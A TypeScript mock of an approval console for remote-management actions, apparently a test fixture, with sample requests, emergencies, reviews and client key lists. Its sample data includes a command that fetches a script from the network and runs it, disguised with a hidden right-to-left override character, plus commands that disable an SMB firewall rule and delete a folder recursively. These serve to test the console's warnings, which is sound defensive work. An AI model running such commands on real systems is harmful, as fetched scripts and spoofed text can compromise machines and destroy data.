/**
 * Approval requests and who speaks for a client, in memory. `?role=contact` is asked, `?waiting` asks (in `ses-live`), `?inbox=empty`
 * has none, `?unintroduced` is a contact whose console nobody has introduced, `?chain=broken` a list that does not hold. The number is 471100.
 * `?mail=STATE,STATE` are mails about what `?waiting` asks (`none`: nobody is listed). `?emergency` is one by somebody else that waits for its
 * review, `?emergency=mine` one by this person, in `ses-live`.
 */
import type { ApprovalDetail } from '../../generated/ApprovalDetail';
import type { ApprovalRow } from '../../generated/ApprovalRow';
import type { InboxView } from '../../generated/InboxView';
import type { MailRow } from '../../generated/MailRow';
import type { NewFloor } from '../../generated/NewFloor';
import type { NewStanding } from '../../generated/NewStanding';
import type { SpeakersView } from '../../generated/SpeakersView';
import type { StateDifference } from '../../generated/StateDifference';
import type { TextView } from '../../generated/TextView';
import type { TimelineItem } from '../../generated/TimelineItem';
import type { Verdict } from '../../generated/Verdict';
import { Failure, type HostEvent } from '../host';
import { EMERGENCY } from './emergency';
import { segmentsIfNeeded } from './visible';

const MINUTE = 60_000;
const NUMBER = '471100';

interface Kept {
  row: ApprovalRow;
  command: string;
  reason: string;
  interpreter: string;
  current: string;
  proposed: string;
  remarks?: string[];
  /** Action of the record that shows what was done. */
  record?: string;
}

export const CONTACT = { id: 'mem-9', name: 'Maria Okafor' };

export class ConsentDesk {
  readonly #kept: Kept[] = [];
  #speakers: SpeakersView;

  constructor(
    readonly query: URLSearchParams,
    now: number,
    readonly tell: (event: HostEvent) => void,
    readonly entriesOf: (action: string) => TimelineItem[],
    readonly record: (action: string, kind: string, facts: TimelineItem['facts'], texts: Record<string, string>) => void,
  ) {
    this.#speakers = speakers(now, query);
    if (query.get('inbox') === 'empty') return;
    if (query.get('role') === 'contact') this.#asked(now);
    else if (query.has('waiting')) this.#asks(now);
    if (query.has('emergency')) this.#emergency(now);
  }

  inbox(): InboxView {
    const rows = this.#kept.map((kept) => ({ ...kept.row }));
    const count = (which: (row: ApprovalRow) => boolean): number => rows.filter(which).length;
    return { rows, waiting: count((row) => row.for_me && row.answer === null && ['pending', 'delivered', 'acknowledged'].includes(row.state)), to_review: count((row) => row.review_for_me), unreviewed: count((row) => row.review_due) };
  }

  detail(action: string): ApprovalDetail {
    const kept = this.#one(action);
    const entries = kept.record ? this.entriesOf(kept.record) : [];
    const sentences: Record<string, string> = {
      read_only: 'This command only reads.',
      changing: 'This command changes something.',
      destructive: 'This command deletes or overwrites something.',
      opaque: 'This command cannot be bounded from its text: what it will do cannot be told beforehand.',
    };
    return {
      row: { ...kept.row },
      command: text('command', kept.command),
      reason: text('reason', kept.reason),
      cwd: null,
      probe: kept.row.class === 'changing' ? text('probe', 'netsh advfirewall firewall show rule name="Block SMB Inbound"') : null,
      interpreter: kept.interpreter,
      current_state: kept.current === '' ? null : text('current_state', kept.current),
      proposed_action: kept.proposed,
      class_sentence: sentences[kept.row.class] ?? '',
      remarks: kept.remarks ?? [],
      policy: 'default, version 1',
      digest: '5f2a9c0b7714e8d2aa63b1f09c4d7e5512389ab0cd4471fe6b02a85c93de1f70',
      recorded: kept.row.fault === null,
      entries,
      difference: differenceOf(entries),
    };
  }

  async decide(action: string, verdict: Verdict): Promise<ApprovalRow> {
    await new Promise((done) => setTimeout(done, 250));
    const { row } = this.#one(action);
    if (this.query.has('offline')) {
      Object.assign(row, { answer: verdict.approve ? 'approved' : 'denied', answer_sent: false });
    } else if (verdict.approve && row.needs_number && verdict.number !== NUMBER) {
      row.refusal = 'The number is not the one that the technician sees. Ask them for it and try again.';
    } else {
      Object.assign(row, { refusal: null, answer: verdict.approve ? 'approved' : 'denied', answer_sent: true, state: verdict.approve ? 'approved' : 'denied', approved_by: verdict.approve ? [CONTACT.name] : [], denied_by: verdict.approve ? null : CONTACT.name });
    }
    this.#changed();
    return { ...row };
  }

  nudge(action: string): ApprovalRow {
    const { row } = this.#one(action);
    if (row.nudges > 0) throw new Failure({ code: 'conflict', message: 'They were reminded less than a minute ago. Wait a little, then remind them again.', retry_after_ms: null });
    row.nudges += 1;
    this.#changed();
    return { ...row };
  }

  withdraw(action: string): void {
    this.#one(action).row.state = 'withdrawn';
    this.#changed();
  }

  async declare(action: string, why: string): Promise<ApprovalRow> {
    await new Promise((done) => setTimeout(done, 200));
    const { row } = this.#one(action);
    if (this.query.get('emergency') === 'refused') throw new Failure({ code: 'forbidden', message: 'The client’s contacts have not allowed emergencies for this kind of action here and now, so the endpoint would refuse it. Nothing was done. Call a contact; the request stays open.', retry_after_ms: null });
    this.record(action, 'action.break_glass', {}, { why });
    Object.assign(row, { state: 'withdrawn', emergency: true, review_due: true });
    this.#changed();
    return { ...row };
  }

  async review(action: string, justified: boolean, note: string): Promise<ApprovalRow> {
    await new Promise((done) => setTimeout(done, 200));
    const { row } = this.#one(action);
    if (!row.review_due) throw new Failure({ code: 'conflict', message: 'This action does not wait for a review: it did not run under break-glass, or somebody has reviewed it.', retry_after_ms: null });
    this.record(action, 'action.reviewed', { verdict: justified ? 'justified' : 'not_justified' }, { note });
    Object.assign(row, { review_due: false, review_for_me: false });
    this.#changed();
    return { ...row };
  }

  speakers(): SpeakersView {
    return structuredClone(this.#speakers);
  }

  introduce(device: string): SpeakersView {
    const row = this.#speakers.waiting.find((one) => one.device === device);
    this.#speakers.waiting = this.#speakers.waiting.filter((one) => one !== row);
    if (row) this.#speakers.keys.push(row);
    return this.speakers();
  }

  revoke(device: string): SpeakersView {
    this.#speakers.keys = this.#speakers.keys.filter((one) => one.device !== device);
    return this.speakers();
  }

  grant(wanted: NewStanding): SpeakersView {
    const { days, from_minute, to_minute, ...rest } = wanted;
    this.takeBack(wanted.name);
    this.#speakers.standing.push({ ...rest, endpoints: [...rest.endpoints], classes: [...rest.classes], days: days ?? 127, from_minute: days === null ? null : from_minute, to_minute: days === null ? null : to_minute, from_ms: Date.now(), held_by: [] });
    this.#hold();
    return this.speakers();
  }

  takeBack(name: string): SpeakersView {
    this.#speakers.standing = this.#speakers.standing.filter((one) => one.name !== name);
    return this.speakers();
  }

  setFloor(wanted: NewFloor): SpeakersView {
    const people = new Set(this.#speakers.keys.map((one) => one.member)).size;
    if (wanted.needed > people) throw new Failure({ code: 'invalid', message: `Only ${people === 1 ? '1 person speaks' : `${people} people speak`} for the client, so nobody could reach a floor of ${wanted.needed}. Introduce more contacts first, or ask for fewer people.`, retry_after_ms: null });
    this.withdrawFloor(wanted.name);
    this.#speakers.floors.push({ ...wanted, endpoints: [...wanted.endpoints], except: [...wanted.except], set_by: CONTACT.name, set_at_ms: Date.now() });
    this.#hold();
    return this.speakers();
  }

  withdrawFloor(name: string): SpeakersView {
    this.#speakers.floors = this.#speakers.floors.filter((one) => one.name !== name);
    this.#hold();
    return this.speakers();
  }

  /** Which floors keep what is allowed beforehand from counting, as the Rust side finds it for floors of all machines. */
  #hold(): void {
    const order = ['changing', 'destructive', 'opaque'];
    for (const standing of this.#speakers.standing) {
      standing.held_by = this.#speakers.floors.filter((floor) => !floor.except.includes(standing.channel) && standing.classes.some((one) => order.indexOf(one) >= order.indexOf(floor.class))).map((floor) => floor.name);
    }
  }

  difference(action: string): StateDifference | null {
    return differenceOf(this.entriesOf(action));
  }

  #one(action: string): Kept {
    const kept = this.#kept.find((one) => one.row.action === action);
    if (!kept) throw new Failure({ code: 'not_found', message: 'There is no such request in this console’s cache.', retry_after_ms: null });
    return kept;
  }

  #changed(): void {
    this.tell({ type: 'inbox', ...this.inbox() });
  }

  #asked(now: number): void {
    const smb = { command: 'netsh advfirewall firewall set rule name="Block SMB Inbound" new enable=no', reason: 'Rule blocks SMB from the domain; shares are unreachable since 01:40', interpreter: 'cmd', current: 'enabled', proposed: 'disable' };
    const rule = 'Windows Firewall rule ‘Block SMB Inbound’';
    this.#kept.push(
      { ...smb, row: asked(now, 'req-smb', { object: rule, sentence: `Technician John Doe requests permission to modify ${rule} on SRV-FILES-01.`, expires_at_ms: now + 11 * MINUTE + 24_000 }) },
      {
        row: asked(now, 'req-script', { class: 'opaque', needs_number: true, hostname: 'edge-proxy-2', requester_name: 'Ana Ruiz', object: 'script /tmp/renew.sh', sentence: 'Technician Ana Ruiz requests permission to run a command that cannot be bounded from its text on edge-proxy-2.', asked_at_ms: now - 40_000 }),
        command: 'curl -fsS https://deploy.example/renew.sh -o /tmp/renew.sh && sh /tmp/renew.sh --host \u202Eevil\u202C --quiet',
        reason: 'Certificate of the proxy expires tonight',
        interpreter: 'sh',
        current: '',
        proposed: 'Run a script that is fetched from https://deploy.example',
        remarks: ['What a script that was just fetched does cannot be told from this text.'],
      },
      {
        ...smb,
        row: asked(now, 'req-unsound', { object: 'service ‘LanmanServer’', sentence: 'Technician John Doe requests permission to modify service ‘LanmanServer’ on SRV-FILES-01.', for_me: false, fault: 'This request does not hold: the command is not what the requester signed. Nothing of it can be approved from here. Do not answer it by other means, and tell your provider.' }),
      },
      { ...smb, record: 'ses-firewall-a2', row: asked(now, 'req-done', { object: rule, sentence: `Technician John Doe requests permission to modify ${rule} on SRV-FILES-01.`, state: 'approved', answer: 'approved', answer_sent: true, approved_by: [CONTACT.name], asked_at_ms: now - 9 * 24 * 60 * MINUTE, expires_at_ms: now - 9 * 24 * 59 * MINUTE }) },
      { ...smb, command: 'Remove-Item -Recurse D:\\Archive\\2019', reason: '', interpreter: 'powershell', current: '48,210 files', proposed: 'delete', row: asked(now, 'req-denied', { class: 'destructive', needs_number: true, object: 'folder D:\\Archive\\2019', sentence: 'Technician John Doe requests permission to delete or overwrite folder D:\\Archive\\2019 on SRV-FILES-01.', state: 'denied', answer: 'denied', answer_sent: true, denied_by: CONTACT.name, asked_at_ms: now - 31 * 60 * MINUTE }) },
      { ...smb, row: asked(now, 'req-expired', { object: rule, sentence: `Technician John Doe requests permission to modify ${rule} on SRV-FILES-01.`, state: 'expired', asked_at_ms: now - 52 * 60 * MINUTE }) },
    );
  }

  #emergency(now: number): void {
    const mine = this.query.get('emergency') === 'mine';
    if (this.query.get('emergency') === 'refused') return;
    const who = mine ? 'John Doe' : 'Ana Ruiz';
    this.#kept.push({
      row: asked(now, EMERGENCY.action, { ...(mine ? { session: 'ses-live', endpoint: 'ep-this', hostname: 'atlas-workstation' } : { session: EMERGENCY.session, endpoint: 'ep-edge', hostname: 'edge-proxy-2' }), requester_name: who, for_me: false, mine, object: 'service “nginx”', sentence: `Technician ${who} declared an emergency to modify service “nginx” on ${mine ? 'atlas-workstation' : 'edge-proxy-2'} without waiting for permission.`, state: 'withdrawn', asked_at_ms: now - 5_380_000, expires_at_ms: now - 4_480_000, emergency: true, review_due: true, review_for_me: !mine }),
      command: EMERGENCY.command,
      reason: EMERGENCY.reason,
      interpreter: 'bash',
      current: 'ActiveState=failed\nSubState=dead\n',
      proposed: 'This command changes something.',
      record: EMERGENCY.action,
    });
  }

  #asks(now: number): void {
    const mail = this.query.get('mail');
    this.#kept.push({
      row: asked(now, 'req-mine', { session: 'ses-live', endpoint: 'ep-this', hostname: 'atlas-workstation', client_name: 'Own computers', for_me: false, mine: true, needs_number: true, number: NUMBER, class: 'destructive', object: 'package linux-image-6.1.0-26-amd64', sentence: 'Technician John Doe requests permission to delete or overwrite package linux-image-6.1.0-26-amd64 on atlas-workstation.', state: 'acknowledged', delivered: [CONTACT.name], seen: [CONTACT.name], needed: 2, ...(mail === null ? {} : { needs_number: false, by_mail: true, needed: 1, mails: mailsOf(mail, now) }) }),
      command: 'apt-get remove -y linux-image-6.1.0-26-amd64',
      reason: 'Room for the new kernel',
      interpreter: 'sh',
      current: 'installed',
      proposed: 'remove',
    });
  }
}

function asked(now: number, action: string, more: Partial<ApprovalRow>): ApprovalRow {
  return {
    action,
    session: 'ses-firewall',
    endpoint: 'ep-files-01',
    hostname: 'SRV-FILES-01',
    client: 'meridian-freight',
    client_name: 'Meridian Freight',
    requester_name: 'John Doe',
    state: 'delivered',
    class: 'changing',
    sentence: '',
    object: '',
    asked_at_ms: now - 3 * MINUTE,
    expires_at_ms: now + 12 * MINUTE,
    needed: 1,
    approver: 'contact',
    delivered: [],
    seen: [],
    approved_by: [],
    denied_by: null,
    nudges: 0,
    for_me: true,
    mine: false,
    needs_number: false,
    answer: null,
    answer_sent: false,
    refusal: null,
    fault: null,
    number: null,
    by_mail: false,
    mails: [],
    emergency: false,
    review_due: false,
    review_for_me: false,
    ...more,
  };
}

function mailsOf(states: string, now: number): MailRow[] {
  const people = ['Zdenka Nováková', 'Milan Horák', 'Ada Osei'];
  const why: Record<string, string> = {
    waiting: 'The mail server put it off (451 4.7.1 greylisted, try again later). It is tried again.',
    refused: 'The mail server refused it for good (550 5.1.1 no such mailbox here). Check the address, or call the contact.',
    gave_up: 'This control plane has no mail server, so no mail was sent. Call the contact, and ask an administrator to set one up.',
  };
  return states.split(',').flatMap((state, at) => (state === 'none' ? [] : [{ name: people[at] ?? 'Somebody', address: `${(people[at] ?? 'x').split(' ')[0]?.toLowerCase().replace(/[^a-z]/g, '')}@own.example`, state, attempts: state === 'waiting' ? 3 : 1, at_ms: now - (state === 'sending' ? 12_000 : 31_000), detail: why[state] ?? '' }]));
}

function text(name: string, said: string): TextView {
  return { name, text: said, segments: segmentsIfNeeded(said) };
}

/** As the Rust side compares, for states of a few lines. */
function differenceOf(entries: TimelineItem[]): StateDifference | null {
  const of = (phase: string): TimelineItem | undefined => entries.find((item) => item.kind === 'state.captured' && item.facts['phase'] === phase);
  const [before, after] = [of('before'), of('after')];
  const lines = (item: TimelineItem | undefined): string[] | undefined => item?.texts.find((one) => one.name === 'state')?.text?.split(/\r?\n/).filter((line) => line !== '');
  const [old, now] = [lines(before), lines(after)];
  if (!before || !after || !old || !now) return null;
  const line = (kind: string, said: string): StateDifference['lines'][number] => ({ kind, text: said, segments: segmentsIfNeeded(said), count: 1 });
  const shown = old.flatMap((was, at) => (now[at] === was ? [line('unchanged', was)] : [line('removed', was), line('added', now[at] ?? '')]));
  const changed = shown.filter((one) => one.kind === 'added').length;
  return { before_seq: before.seq, after_seq: after.seq, certain: true, too_long: false, removed: changed, added: changed, lines: shown };
}

function speakers(now: number, query: URLSearchParams): SpeakersView {
  const own = { device: 'dev-1', member: CONTACT.id, name: CONTACT.name, label: 'maria-laptop', fingerprint: '4f1c 09aa 7be2 d310 58c4', this_console: true };
  const known = { device: 'dev-2', member: 'mem-tom', name: 'Tom Baker', label: 'warehouse-desk', fingerprint: 'b02e 77d1 90fc 1a6e 3d48', this_console: false };
  const other = { device: 'dev-3', member: 'mem-ada', name: 'Ada Osei', label: 'ada-notebook', fingerprint: '91c0 55ae 0d27 f8b3 6e19', this_console: false };
  const alone = query.has('unintroduced');
  return {
    client: 'meridian-freight',
    client_name: 'Meridian Freight',
    this_console: !alone,
    keys: query.get('chain') === 'broken' ? [] : alone ? [known] : [own, known],
    waiting: alone ? [own] : [other],
    standing:
      query.get('chain') === 'broken'
        ? []
        : [{ name: 'after-hours-incident-response', endpoints: [], classes: ['changing'], channel: 'break_glass', days: 0b0011111, from_minute: 1080, to_minute: 360, utc_offset_minutes: 60, from_ms: now - 30 * 24 * 60 * MINUTE, until_ms: now + 60 * 24 * 60 * MINUTE, held_by: [] }],
    floors:
      query.get('chain') === 'broken'
        ? []
        : [{ name: 'two-for-deleting', endpoints: [], class: 'destructive', needed: 2, number: true, except: ['break_glass'], set_by: known.name, set_at_ms: now - 12 * 24 * 60 * MINUTE }],
    fault: query.get('chain') === 'broken' ? 'The control plane shows another list of who speaks for the client than the one that this console saw before. Nothing is signed in it. Ask your provider, and do not approve anything until this is explained.' : null,
  };
}
